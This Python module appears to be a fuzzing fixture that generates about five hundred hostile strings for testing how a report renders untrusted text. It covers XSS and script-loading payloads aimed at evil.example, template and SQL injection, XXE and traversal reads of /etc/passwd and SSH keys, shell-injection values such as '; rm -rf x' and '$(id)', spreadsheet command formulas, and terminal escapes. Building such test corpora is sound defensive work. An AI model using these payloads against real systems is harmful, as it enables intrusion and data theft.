"""Five hundred strings that a hostile deployment could put where a report shows them; no two are alike.

Each family is made from its own parts, so that one more trick is one more line here. Nothing in them asks a real host.
"""

from collections.abc import Iterator
from itertools import product

MARK = "pwned"  # what a script sets, should one ever run: window.pwned
RUN = f"window.{MARK}=1"
HOST = "//evil.example"


def _elements() -> Iterator[str]:
    for tag, event in product(
        (
            "img src=x",
            "svg",
            "body",
            "iframe src=x",
            "video src=x",
            "audio src=x",
            "input autofocus",
            "details open",
            "select autofocus",
            "marquee",
            "object data=x",
            "math",
            "textarea autofocus",
            "style",
            "a href=x",
        ),
        ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart"),
    ):
        yield f"<{tag} {event}={RUN}>"


def _breaking_out() -> Iterator[str]:
    ends = (
        '"',
        "'",
        "`",
        ">",
        '">',
        "'>",
        "-->",
        "]]>",
        "*/",
        "?>",
        "%>",
        "</title>",
        "</style>",
        "</script>",
        "</textarea>",
        "</svg>",
        "</td>",
        "</table>",
        "</html>",
        "</template>",
        "</noscript>",
        "\\x3e",
        "\\u003e",
        "&gt;",
    )
    for end, payload in product(
        ends, (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f' onmouseover="{RUN}" x="')
    ):
        yield f"{end}{payload}"


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
        "vbscript:",
        "data:text/html,",
        "data:text/html;base64,",
        "blob:",
        "view-source:javascript:",
        "jar:",
        "feed:javascript:",
    )
    yield from (f"{scheme}{RUN}" for scheme in schemes)
    yield from (f"<a href='{scheme}{RUN}'>x</a>" for scheme in schemes)
    yield from (
        f"<base href={HOST}>",
        f"<link rel=stylesheet href={HOST}>",
        f"<meta http-equiv=refresh content=0;url={HOST}>",
        f"<form action={HOST}><input name=x>",
        f"<img src={HOST}/x>",
        f"<script src={HOST}/x.js></script>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
        f"<object data={HOST}>",
        f"<embed src={HOST}>",
        "url(x)",
        f"@import '{HOST}/x.css';",
        f"background:url({HOST})",
        f"<style>@import '{HOST}';</style>",
        "expression(alert(1))",
    )


def _templates() -> Iterator[str]:
    yield from (
        "{{ 7*7 }}",
        "{% raw %}",
        "{%- endraw -%}",
        "{# x #}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "*{7*7}",
        "{{ ''.__class__.__mro__ }}",
        "{{ self.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "@(7*7)",
        "[[7*7]]",
        "{{constructor.constructor('return 1')()}}",
        '#eval("1")',
        '#read("/etc/passwd")',
        '#import "x.typ": *',
        "$ sum $",
        "#{while true {}}",
        "\\input{/etc/passwd}",
        "\\write18{id}",
    )


def _formats() -> Iterator[str]:
    yield from (
        "%s%s%s%s%n",
        "%d",
        "%(name)s",
        "%",
        "%%",
        "%x" * 20,
        "{}",
        "{0}",
        "{n}",
        "{0.__class__}",
        "{name!r:>99999999}",
        "{records}",
        "{:d}",
        "{",
        "}",
        "}{",
        "{{}}",
        "$name",
        "${name}",
        "%99999999s",
        "\\1\\g<0>",
        "$1$&",
        "!{x}",
        "{de}",
    )


def _turning() -> Iterator[str]:
    for code in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C):
        yield f"invoice{chr(code)}gnp.exe"
        yield f"{chr(code)}{chr(code)}"
    for code in (
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0xFEFF,
        0x00AD,
        0x034F,
        0x180E,
        0x2028,
        0x2029,
        0x0085,
        0xE0041,
        0x3164,
        0xFFF9,
    ):
        yield f"pa{chr(code)}ss"
    yield from (
        "Z\u0351\u036b\u0343a\u0321lgo" * 9,
        "\u0430dmin",
        "ﷺ" * 40,
        "𝖕𝖆𝖘𝖘",
        "🏳️\u200d🌈",
        "ſ",
        "ß" * 30,
        "İ",
        "ﬀ",
    )


def _terminal() -> Iterator[str]:
    escapes = (
        "[31m",
        "[2J",
        "[H",
        "[1A",
        "[2K",
        "[?25l",
        "[?1049h",
        "c",
        "]0;title\x07",
        "]8;;http://evil.example\x07x\x1b]8;;\x07",
        'P$q"p\x1b\\',
        "]52;c;cHduZWQ=\x07",
        "[6n",
        "[5m",
        "[8m",
        "(0",
        "#8",
        "_x\x1b\\",
        "^x\x1b\\",
        "[9999999999C",
        "[38;5;1m",
    )
    yield from (f"a\x1b{each}b" for each in escapes)
    yield from (f"a\x9b{each[1:]}b" for each in escapes if each.startswith("["))
    yield from ("a\rb", "a\x08\x08b", "a\x07b", "a\x0bb", "a\x0cb", "a\x7fb", "a\x84b", "a\x90b", "\x9d0;t\x9c")
    yield from (
        "[red]x[/red]",
        "[/]",
        "[bold",
        "[link=http://evil.example]x[/link]",
        "\\[red]",
        ":warning:",
        "[@click=app.quit]x[/]",
    )


def _paths() -> Iterator[str]:
    yield from (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\Windows",
        "\\\\host\\share",
        "....//....//x",
        "%2e%2e%2f",
        "..%00/",
        "a/../../b",
        ".",
        "..",
        "/",
        "//",
        "~root",
        "~/.ssh/id_rsa",
        "file:///etc/passwd",
        "CON",
        "NUL.txt",
        "aux",
        "a:b",
        "a|b",
        "a?b",
        "a*b",
        "x\x00.png",
        "-rf",
        "--help",
        "-",
        "a b",
        " a",
        "a.",
        "a ",
        "evidence/records.jsonl",
        "seal.dsse.json",
        "run.json",
        "report.html",
        "\u2025/\u2025/x",
        "．．／x",
        "con.txt",
        "$HOME/x",
        "`id`",
        "$(id)",
        "; rm -rf x",
        "| id",
        "&& id",
        "\n id",
        "x" * 300,
        "ä" * 200,
    )


def _languages() -> Iterator[str]:
    yield from (
        "' OR '1'='1",
        "'; DROP TABLE runs;--",
        '" OR ""="',
        "1 UNION SELECT 1",
        "1/*",
        "--",
        "#",
        "\\'",
        "*)(uid=*))(|(uid=*",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("http://evil.example")',
        "=cmd|' /C calc'!A0",
        "\tx",
        "a,b;c",
        '"a""b"',
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "&y;",
        "&amp;",
        "&#0;",
        "&#x1b;",
        "&lt;script&gt;",
        "&#60;b&#62;",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<?php echo 1 ?>",
        "<!--",
        "<!-- -->",
        "</testcase>",
        "<failure>",
        "<!ELEMENT x ANY>",
        "xmlns:x='y'",
        "<x:y/>",
        '{"a":1}',
        '"}',
        "\\u0000",
        "\\",
        "\\\\",
        "null",
        "NaN",
        "-0",
        "1e999",
        "true",
        "__proto__",
        "constructor",
        "toString",
        "# h1",
        "- item",
        "1. x",
        "> quote",
        "```",
        "~~~",
        "***",
        "---",
        "| a | b |",
        "[x](javascript:alert(1))",
        "![x](http://evil.example/x.png)",
        "<http://evil.example>",
        "https://evil.example",
        "[x]: http://evil.example",
        "@everyone",
        "#1",
        "::error file=x::y",
        "::set-output name=x::y",
        "##vso[task.setvariable]",
        "##teamcity[x]",
        "\n::add-mask::x",
        "# HELP x y",
        'x{a="b"} 1',
        "\nevil_metric 1",
        '"} 1\nevil_metric{x="',
        "::stop-commands::x",
        "  ::warning title=x::y",
        "##[error]x",
        "a ##[add-mask]x",
        "%0A::error::x",
        "%250A::error::x",
        "x,title=y::z",
        "[[ATTACHMENT|/etc/passwd]]",
        "[[ attachment|x]]",
        "www.evil.example",
        "a@evil.example",
        "$\\href{x}{y}$",
        "</details>",
        "[x](0)",
    )


def _broken() -> Iterator[str]:
    yield from (
        "",
        " ",
        "\x00",
        "\x00" * 50,
        "a\x00b",
        "\n\n\n",
        "\r\n",
        "\t",
        "\ud800",
        "a\udfffb",
        "\udc80",
        "\ud83d",
        "\ufffe",
        "\uffff",
    )
    yield from ("\U0010ffff", "\ufdd0", "\ue000", "\U000f0000", "\x1f", "\x80", "\xff", "".join(map(chr, range(32))))
    yield from (
        "A" * 100_000,
        "<" * 20_000,
        "&" * 20_000,
        "\u202e" * 5_000,
        "(" * 5_000,
        "{" * 5_000,
        "é" * 50_000,
        "a " * 20_000,
    )
    yield from (
        "a" * 600,
        "a" * 601,
        "\n" * 10_000,
        "😀" * 10_000,
        "0" * 5_000,
        "[" * 3_000,
        "<b>" * 3_000,
        "\x1b[31m" * 2_000,
    )


FAMILIES = {
    "elements": list(_elements()),
    "breaking out": list(_breaking_out()),
    "addresses": list(_addresses()),
    "templates": list(_templates()),
    "formats": list(_formats()),
    "turning": list(_turning()),
    "terminal": list(_terminal()),
    "paths": list(_paths()),
    "languages": list(_languages()),
    "broken": list(_broken()),
}
HOSTILE = [text for family in FAMILIES.values() for text in family]
